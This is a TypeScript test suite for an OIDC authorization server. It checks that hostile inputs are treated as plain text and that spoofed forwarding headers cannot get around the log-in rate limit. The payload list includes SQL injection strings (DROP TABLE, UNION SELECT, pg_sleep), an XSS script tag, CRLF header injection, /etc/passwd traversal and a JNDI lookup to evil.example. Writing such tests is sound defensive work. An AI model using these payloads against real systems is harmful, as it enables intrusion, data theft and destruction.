import { expect } from 'chai';
import {
  addUser,
  authHarness,
  basic,
  loggedIn,
  password,
  tasksClient,
  type AuthHarness,
} from './support/auth-harness.ts';
import { actionOf, hiddenFields, pkce } from './support/browser.ts';
import { oidcHarness, type OidcHarness } from './support/oidc-harness.ts';

const texts = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "x' UNION SELECT password_hash FROM users --",
  '$1',
  "\\'; SELECT pg_sleep(10); --",
  'a\u0000b',
  '\ud800',
  '%00',
  '{"$ne":null}',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: evil=1\r\nLocation: https://evil.example',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/x}',
  'x'.repeat(5_000),
];

describe('texts with a meaning in SQL, HTTP, HTML or JavaScript', () => {
  let harness: OidcHarness;
  before(async () => {
    harness = await oidcHarness();
  });
  after(async () => {
    await harness.stop();
  });

  const challenge = pkce().challenge;
  const people = async () =>
    (
      await harness.database.db.pool.query<{ all: string }>(
        'SELECT json_agg(users ORDER BY id)::text AS all FROM users',
      )
    ).rows[0]?.all;

  /** Expects no server error, nothing from the caller in a header, no cookie set by the caller, and a quick response. */
  function expectHarmless(answer: { status: number; headers: Headers }, began: number, text: string): void {
    expect(answer.status, text).to.be.below(500);
    expect(performance.now() - began, text).to.be.below(5_000);
    expect(answer.headers.get('set-cookie') ?? '').not.to.contain('evil');
    expect(answer.headers.get('location') ?? '').not.to.match(/[\r\n]|^https:\/\/evil/);
  }

  it('are treated as plain text in each parameter of the authorization endpoint (RFC 6749 section 10.14)', async () => {
    const before = await people();
    const names = [
      'client_id',
      'redirect_uri',
      'scope',
      'state',
      'nonce',
      'login_hint',
      'prompt',
      'max_age',
      'resource',
    ];
    const more = [
      'code_challenge',
      'response_type',
      'response_mode',
      'id_token_hint',
      'ui_locales',
      'acr_values',
      'claims',
    ];
    for (const name of [...names, ...more]) {
      for (const text of texts) {
        const began = performance.now();
        const address = harness.authorizeUrl({
          code_challenge: challenge,
          prompt: 'none',
          [name]: text.toWellFormed(),
        });
        const answer = await fetch(`${harness.api.baseUrl}${address}`, { redirect: 'manual' });
        expectHarmless(answer, began, `${name}=${text.slice(0, 50)}`);
        expect(await answer.text()).not.to.contain('<script>alert');
      }
    }
    expect(await people()).to.equal(before);
  });

  it('are treated as plain text at the endpoints for tokens', async () => {
    const before = await people();
    const fields = { grant_type: 'authorization_code', code: 'x', code_verifier: 'x'.repeat(43), redirect_uri: 'x' };
    for (const path of ['/oidc/token', '/oidc/introspect', '/oidc/revoke', '/oidc/userinfo']) {
      for (const name of [
        'grant_type',
        'code',
        'code_verifier',
        'client_id',
        'refresh_token',
        'token',
        'scope',
        'resource',
      ]) {
        for (const text of texts) {
          const began = performance.now();
          const given = {
            ...fields,
            ...(name === 'refresh_token' ? { grant_type: 'refresh_token' } : {}),
            [name]: text,
          };
          const answer = await harness.asPortal(path, given);
          expectHarmless(answer, began, `${path} ${name}=${text.slice(0, 50)}`);
          expect(answer.body ?? {}).not.to.have.property('access_token');
        }
      }
    }
    expect(await people()).to.equal(before);
  });

  it('are treated as plain text in the id and the secret of a client', async () => {
    for (const text of texts.map((one) => one.toWellFormed())) {
      for (const by of [basic(text, 'x'), basic(tasksClient.client_id, text)]) {
        const began = performance.now();
        const answer = await harness.api.form('/oidc/token', { grant_type: 'client_credentials' }, by);
        expectHarmless(answer, began, text);
        expect(answer.body).to.have.property('error');
      }
    }
  });

  it('are treated as plain text in the forms of the pages', async () => {
    const before = await people();
    const browser = harness.browser();
    const page = await browser.open(harness.authorizeUrl({ code_challenge: challenge }));
    for (const name of ['email', 'password', 'decision', 'form_token', '__proto__']) {
      for (const text of texts.map((one) => one.toWellFormed())) {
        const form = {
          ...hiddenFields(page.text),
          email: 'a@example.org',
          password: 'x',
          decision: 'log_in',
          [name]: text,
        };
        const began = performance.now();
        const answer = await browser.post(actionOf(page), form, { origin: 'http://localhost:8080' });
        expectHarmless(answer, began, `${name}=${text.slice(0, 50)}`);
        expect(answer.text).not.to.contain('<script>alert');
      }
    }
    expect(await people()).to.equal(before);
  });

  it('are treated as plain text in the JSON API: at log-in, in a search, in an id, in a cursor', async () => {
    const admin = await loggedIn(harness, 'admin');
    const before = await people();
    for (const text of texts) {
      const began = performance.now();
      const answers = [
        await harness.api.call('login', { body: { email: text, password: text } }),
        await harness.api.call('refresh', { body: { refresh_token: text } }),
        await harness.api.call('listUsers', { token: admin.token, query: { q: text.toWellFormed() } }),
        await harness.api.call('listUsers', { token: admin.token, query: { cursor: text.toWellFormed() } }),
        await harness.api.call('getUser', {
          token: admin.token,
          params: { id: encodeURIComponent(text.toWellFormed()) },
        }),
      ];
      for (const answer of answers) expectHarmless(answer, began, text.slice(0, 50));
    }
    expect(await people()).to.equal(before);
  });

  it('are returned as state unchanged and encoded (RFC 6749 section 4.1.2.1)', async () => {
    const state = 'a\r\nSet-Cookie: evil=1 &state=other#"<x>';
    const page = await harness
      .browser()
      .open(harness.authorizeUrl({ code_challenge: challenge, prompt: 'none', state }));
    expect(new URL(page.url).searchParams.getAll('state')).to.deep.equal([state]);
  });
});

describe('an address that a caller invents', () => {
  let harness: AuthHarness;
  before(async () => {
    harness = await authHarness({ TRUSTED_PROXIES: '192.0.2.1' });
  });
  after(async () => {
    await harness.stop();
  });

  it("is ignored unless a trusted proxy reports it, so the limit on log-ins can't be bypassed", async () => {
    const user = await addUser(harness, 'member');
    const attempt = async (given: string, ip: string) =>
      await harness.api.call('login', {
        body: { email: user.email, password: given },
        headers: { 'x-forwarded-for': ip, 'x-real-ip': ip, forwarded: `for=${ip}` },
      });
    for (let count = 1; count <= 10; count++) {
      expect((await attempt('wrong password', `198.51.100.${count}`)).status).to.equal(401);
    }
    expect((await attempt(password, '203.0.113.7')).status).to.equal(429);
  });
});
